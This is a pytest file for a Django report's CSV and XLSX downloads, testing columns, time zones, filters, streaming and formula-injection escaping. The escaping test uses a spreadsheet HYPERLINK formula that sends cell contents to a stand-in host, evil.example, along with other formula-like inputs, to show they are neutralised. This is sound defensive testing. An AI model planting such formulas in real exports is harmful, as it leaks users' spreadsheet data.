"""Downloads of report 6.04: CSV and XLSX parsed back column by column, formula neutralisation, and the
direct (streamed) path; the large-download path with a real worker is in test_reports_exports.py."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from callbacks.choices import CompletionStatus, EndState
from monitoring.reports import csv_copy, exports
from monitoring.reports.exports import neutralise, phone_cell
from tests.monitoring.reports_history import PARIS_DAYS, UTC_DAYS, build_history, completed_callback, utc

DOWNLOAD = "/reports/completed-callbacks/download/"
HEADER_UTC = [
    "Business process",
    "Business process name",
    "Callback ID",
    "Phone",
    "Customer name",
    "End state",
    "Original entrance time (UTC)",
    "Completion time (UTC)",
    "Last attempt time (UTC)",
    "Total attempts",
]


@pytest.fixture
def history(db):
    return build_history()


@pytest.fixture
def manager(client, make_user):
    client.force_login(make_user("managers"))
    return client


def download(client, fmt: str, filters: dict):
    response = client.post(DOWNLOAD, {**filters, "format": fmt})
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Disposition"].rstrip('"').endswith(f".{fmt}")
    return b"".join(response.streaming_content)


def parse_csv(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # Excel reads UTF-8 names right with the byte-order mark
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def sheets(body: bytes) -> dict[str, list[list]]:
    workbook = load_workbook(io.BytesIO(body), read_only=True)
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in workbook.worksheets}


def test_csv_one_row_per_attempt_every_column_in_paris_time(history, manager):
    rows = parse_csv(download(manager, "csv", PARIS_DAYS))
    zone = "Europe/Paris"
    assert rows[0] == [
        "Business process",
        "Business process name",
        "Callback ID",
        "Phone",
        "Customer name",
        "End state",
        f"Original entrance time ({zone})",
        f"Completion time ({zone})",
        f"Last attempt time ({zone})",
        "Total attempts",
        "Attempt",
        f"Attempt time ({zone})",
        "Agent name",
        "Attempt state",
    ]
    late = ["SALES", "Sales", "cb-late", "+12125550134", "Late Larry", "Reached"]
    late += ["2026-03-27T23:00:00+01:00", "2026-03-28T00:30:00+01:00", "2026-03-28T00:10:00+01:00", "1"]
    reached = ["SALES", "Sales", "cb-reached", "+33142685300", "Marie Curie", "Reached"]
    reached += ["2026-03-27T10:00:00+01:00", "2026-03-28T11:07:00+01:00", "2026-03-28T11:00:00+01:00", "2"]
    aborted = ["SUPPORT", "Support", "cb-aborted", "+12125550134", "Ada Lovelace", "Aborted"]
    aborted += ["2026-03-28T17:00:00+01:00", "2026-03-28T18:00:00+01:00", "2026-03-28T18:00:00+01:00", "1"]
    # After the DST change: +02:00. No attempt: one row, the attempt columns empty.
    purged = ["SUPPORT", "Support", "cb-purged", "+12125550134", "", "Purged"]
    purged += ["2026-03-29T09:00:00+02:00", "2026-03-29T10:00:00+02:00", "", "0"]
    assert rows[1:] == [
        late + ["1", "2026-03-28T00:10:00+01:00", "Alice Martin", "Handled"],
        reached + ["1", "2026-03-27T10:05:00+01:00", "Alice Martin", "No Answer"],
        reached + ["2", "2026-03-28T11:00:00+01:00", "bob-22", "Handled"],
        aborted + ["1", "2026-03-28T18:00:00+01:00", "", "Aborted"],
        purged + ["", "", "", ""],
    ]


def test_xlsx_callbacks_and_attempts_sheets_every_column_in_utc(history, manager):
    workbook = sheets(download(manager, "xlsx", UTC_DAYS))
    assert list(workbook) == ["Callbacks", "Attempts"]
    assert workbook["Callbacks"] == [
        HEADER_UTC,
        ["SALES", "Sales", "cb-reached", "+33142685300", "Marie Curie", "Reached"]
        + ["2026-03-27T09:00:00+00:00", "2026-03-28T10:07:00+00:00", "2026-03-28T10:00:00+00:00", 2],
        ["SUPPORT", "Support", "cb-aborted", "+12125550134", "Ada Lovelace", "Aborted"]
        + ["2026-03-28T16:00:00+00:00", "2026-03-28T17:00:00+00:00", "2026-03-28T17:00:00+00:00", 1],
        ["SUPPORT", "Support", "cb-purged", "+12125550134", None, "Purged"]
        + ["2026-03-29T07:00:00+00:00", "2026-03-29T08:00:00+00:00", None, 0],
        ["SALES", "Sales", "cb-withdrawn", "+12125550134", "Grace Hopper", "Cancelled"]
        + ["2026-03-29T23:00:00+00:00", "2026-03-29T23:30:00+00:00", "2026-03-29T23:20:00+00:00", 1],
    ]
    assert workbook["Attempts"] == [
        ["Callback ID", "Business process", "Attempt", "Attempt time (UTC)", "Agent name", "Attempt state"],
        ["cb-reached", "SALES", 1, "2026-03-27T09:05:00+00:00", "Alice Martin", "No Answer"],
        ["cb-reached", "SALES", 2, "2026-03-28T10:00:00+00:00", "bob-22", "Handled"],
        ["cb-aborted", "SUPPORT", 1, "2026-03-28T17:00:00+00:00", None, "Aborted"],
        ["cb-withdrawn", "SALES", 1, "2026-03-29T23:20:00+00:00", "Alice Martin", "Withdrawn"],
    ]


def test_downloads_follow_the_filters(history, manager):
    rows = parse_csv(download(manager, "csv", {**UTC_DAYS, "agent": "bob-22"}))
    assert {row[2] for row in rows[1:]} == {"cb-reached"}
    workbook = sheets(download(manager, "xlsx", {**UTC_DAYS, "end_state": [EndState.PURGED]}))
    assert [row[2] for row in workbook["Callbacks"][1:]] == ["cb-purged"]
    assert workbook["Attempts"][1:] == []


def test_formula_injection_is_neutralised_in_both_formats(history, manager):
    completed_callback(
        history["sales"],
        "=1+2",
        end_state=EndState.REACHED,
        created=utc(28, 1),
        completed=utc(28, 2),
        phone="+1 212 555 0134",  # not E.164 (a space): treated as any text
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        attempts=[(history["bob"], utc(28, 1, 30), utc(28, 1, 40), CompletionStatus.HANDLED)],
    )
    history["bob"].display_name = "@SUM(A1:A9)"
    history["bob"].save()
    history["sales"].name = "-Sales\t"
    history["sales"].save()

    rows = parse_csv(download(manager, "csv", {**UTC_DAYS, "agent": "bob-22"}))
    evil = next(row for row in rows if row[2] == "'=1+2")
    assert evil[:5] == [
        "SALES",
        "'-Sales\t",
        "'=1+2",
        "'+1 212 555 0134",
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ]
    assert evil[12] == "'@SUM(A1:A9)"
    # A phone in E.164 form is written as it is.
    assert next(row for row in rows if row[2] == "cb-reached")[3] == "+33142685300"

    workbook = sheets(download(manager, "xlsx", {**UTC_DAYS, "agent": "bob-22"}))
    callbacks = {row[2]: row for row in workbook["Callbacks"][1:]}
    assert callbacks["'=1+2"][:5] == [
        "SALES",
        "'-Sales\t",
        "'=1+2",
        "'+1 212 555 0134",
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ]
    assert callbacks["cb-reached"][3] == "+33142685300"  # text, not the number 33142685300
    assert sorted(row[4] for row in workbook["Attempts"][1:]) == ["'@SUM(A1:A9)", "'@SUM(A1:A9)", "Alice Martin"]
    # No cell of the workbook is a formula.
    full = load_workbook(io.BytesIO(download(manager, "xlsx", {**UTC_DAYS, "agent": "bob-22"})))
    assert all(cell.data_type != "f" for sheet in full.worksheets for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=cmd", "'=cmd"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Anne", "Anne"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_phone_rule():
    assert phone_cell("+12125550134") == "+12125550134"
    assert phone_cell("+1 212 555 0134") == "'+1 212 555 0134"
    assert phone_cell("=1+1") == "'=1+1"


def test_a_control_character_in_a_name_does_not_break_the_xlsx(history, manager):
    completed_callback(
        history["sales"],
        "ctl",
        end_state=EndState.REACHED,
        created=utc(28, 1),
        completed=utc(28, 2),
        name="Bell\x07Boy",
    )
    workbook = sheets(download(manager, "xlsx", UTC_DAYS))
    assert [row[4] for row in workbook["Callbacks"] if row[2] == "ctl"] == ["BellBoy"]


def test_bad_download_requests(history, manager):
    assert manager.post(DOWNLOAD, {**UTC_DAYS, "format": "pdf"}).status_code == 400
    response = manager.post(DOWNLOAD, {"date_from": "2026-03-29", "date_to": "2026-03-01", "format": "csv"})
    assert response.status_code == 302
    assert response["Location"].startswith("/reports/completed-callbacks/?")
    page = manager.get(response["Location"])
    assert "The filters are not valid" in page.content.decode()
    assert "The end date must not be before the start date." in page.content.decode()


def test_a_download_from_the_page_carries_its_filters(history, manager):
    page = manager.get("/reports/completed-callbacks/", {**UTC_DAYS, "business_process": ["SUPPORT"]}).content.decode()
    assert '<input type="hidden" name="business_process" value="SUPPORT">' in page
    assert '<input type="hidden" name="date_from" value="2026-03-28">' in page
    assert '<input type="hidden" name="time_zone" value="UTC">' in page


def test_csv_streams_in_parts_from_one_query(history, manager, django_assert_num_queries, monkeypatch):
    """The header, then the rows in parts, all read by one query — no query per row nor per chunk. SQLite:
    chunks of 2 callbacks, one part each, through one cursor. PostgreSQL: one COPY, parts of PART_BYTES."""
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    monkeypatch.setattr(csv_copy, "PART_BYTES", 300)
    response = manager.post(DOWNLOAD, {**UTC_DAYS, "format": "csv"})
    if connection.vendor == "postgresql":
        with CaptureQueriesContext(connection) as queries:  # COPY runs beside Django's query log
            parts = list(response.streaming_content)
        # Only the report's time zone set for the COPY, then set back: no other query.
        assert [query["sql"] for query in queries if "SAVEPOINT" not in query["sql"]] == [
            "SELECT current_setting('TimeZone'), current_setting('jit'), set_config('TimeZone', 'UTC', true),"
            " set_config('jit', 'off', true)",
            "SELECT set_config('TimeZone', 'UTC', true), set_config('jit', 'on', true)",
        ]
        assert all(len(part) < 300 + 250 for part in parts[1:-1])  # a part stops at the row passing 300 bytes
        assert len(parts) >= 3
    else:
        with django_assert_num_queries(1):
            parts = list(response.streaming_content)
        assert len(parts) == 1 + 2
    assert parts[0].endswith(b"Attempt state\n")
    assert len(parse_csv(b"".join(parts))) == 1 + 5


@pytest.mark.parametrize(
    ("zone", "created"),
    [
        ("America/St_Johns", "2026-03-27T06:30:00-02:30"),  # negative, with minutes (Newfoundland, summer time)
        ("Asia/Kolkata", "2026-03-27T14:30:00+05:30"),
        ("America/Los_Angeles", "2026-03-27T02:00:00-07:00"),
        ("UTC", "2026-03-27T09:00:00+00:00"),
    ],
)
def test_times_carry_their_offset_in_any_zone(history, manager, zone, created):
    """On PostgreSQL the database writes these (monitoring.reports.exports.ReportTime), on SQLite Python."""
    rows = parse_csv(download(manager, "csv", {**UTC_DAYS, "time_zone": zone, "agent": "bob-22"}))
    assert rows[0][6] == f"Original entrance time ({zone})"
    assert rows[1][2] == "cb-reached" and rows[1][6] == created


def test_a_download_stopped_half_way_under_asgi_closes_its_parts_in_their_thread():
    """The client goes away after the first part: the parts' generator (its cursor, its transaction) is closed
    at once, by the thread that made its parts, not left to the garbage collector."""
    import asyncio
    import threading

    threads = {}

    def parts():
        threads["made"] = threading.get_ident()
        try:
            yield b"header"
            yield b"rows"
        finally:
            threads["closed"] = threading.get_ident()

    async def first_part_only():
        stream = exports._async_parts(parts())
        first = await anext(stream)
        await stream.aclose()
        return first

    assert asyncio.run(first_part_only()) == b"header"
    assert threads["closed"] == threads["made"]
